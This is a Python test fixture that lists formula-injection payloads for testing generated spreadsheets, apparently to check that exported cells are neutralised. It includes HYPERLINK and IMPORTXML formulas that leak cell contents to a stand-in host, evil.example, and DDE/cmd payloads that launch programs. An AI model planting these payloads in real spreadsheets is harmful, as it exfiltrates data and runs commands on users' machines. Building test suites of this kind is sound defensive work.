"""Formula-injection payloads (OWASP CSV injection and its variants) for the tests of every
generated spreadsheet: live formulas, DDE, a data-leaking link, each trigger character (=, +,
-, @, tab, carriage return, line feed), full-width forms and an error literal."""

from __future__ import annotations

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看详情")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+2",
    "\r=1+3",
    "\n-1+4",
    "＝1+5",
    "＋cmd|' /C calc'!A0",
    "#N/A",
    "'=1+6",
)
